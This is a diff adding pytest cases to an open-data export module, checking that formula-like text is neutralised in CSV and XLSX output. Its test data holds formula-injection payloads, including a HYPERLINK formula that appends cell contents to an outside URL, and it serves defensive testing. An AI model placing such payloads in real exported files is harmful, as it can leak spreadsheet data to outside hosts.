@@ -1,9 +1,11 @@
 """Open data files derived from a published snapshot."""
 
+import copy
 import csv
 import io
 import json
 
+import pytest
 from openpyxl import load_workbook
 
 from hedef.domain.publishing.opendata import (
@@ -118,3 +120,62 @@ def test_datapackage_describes_every_resource_under_a_licence():
     assert "/open-data/2026-s1/measures.csv" in paths
     measures = next(r for r in descriptor["resources"] if r["name"] == "measures")
     assert [f["name"] for f in measures["schema"]["fields"]][:2] == ["strategy", "number"]
+
+
+def _hostile_snapshot(text):
+    """The snapshot with ``text`` as a measure title, an agency name and an indicator unit."""
+    snapshot = copy.deepcopy(SNAPSHOT)
+    strategy = snapshot["strategies"][0]
+    strategy["measures"][0]["title"] = text
+    strategy["indicators"][0]["unit"] = text
+    strategy["indicators"][0]["targets"] = {"2026": -50}
+    snapshot["agencies"][0]["name"] = text
+    return snapshot
+
+
+# (text as published, as written to CSV)
+CSV_CASES = [
+    ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
+    ("+1", "'+1"),
+    ("+1+1", "'+1+1"),
+    ("-2 days", "'-2 days"),
+    ("-2", "'-2"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"),
+    ("\rx", "'\rx"),
+    ("İqtisadiyyat = iqtisadiyyat", "İqtisadiyyat = iqtisadiyyat"),
+]
+
+
+@pytest.mark.parametrize(("text", "written"), CSV_CASES, ids=repr)
+def test_csv_text_a_spreadsheet_would_run_gets_an_apostrophe(text, written):
+    """Formula-like text is neutralised in every CSV file; numbers stay numbers."""
+    snapshot = _hostile_snapshot(text)
+    measures, values, agencies = snapshot_tables(snapshot)
+    assert next(csv.DictReader(io.StringIO(table_csv(measures))))["title"] == written
+    assert next(csv.DictReader(io.StringIO(table_csv(agencies))))["name"] == written
+    value_rows = list(csv.DictReader(io.StringIO(table_csv(values))))
+    assert value_rows[0]["unit"] == written
+    assert value_rows[0]["target"] == "-50"
+    sdmx = list(csv.DictReader(io.StringIO(sdmx_csv(snapshot))))
+    assert {row["UNIT_MEASURE"] for row in sdmx} == {written}
+    assert sdmx[0]["OBS_VALUE"] == "-50"
+
+
+@pytest.mark.parametrize("text", [text for text, _written in CSV_CASES], ids=repr)
+def test_the_open_data_workbook_keeps_text_as_text(text):
+    """In XLSX, the same text is a string cell with every character, never a formula."""
+    snapshot = _hostile_snapshot(text)
+    snapshot["cycle"]["label"] = text
+    book = load_workbook(io.BytesIO(tables_xlsx(snapshot_tables(snapshot), snapshot)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert book["measures"]["C2"].value == text
+    assert book["agencies"]["C2"].value == text
+    assert book["about"]["B2"].value == text
+    assert book["indicator_values"]["F2"].value == -50
+
+
+def test_the_datapackage_says_how_csv_text_is_neutralised():
+    descriptor = json.loads(datapackage(SNAPSHOT, snapshot_tables(SNAPSHOT), base="/"))
+    assert "leading apostrophe" in descriptor["description"]
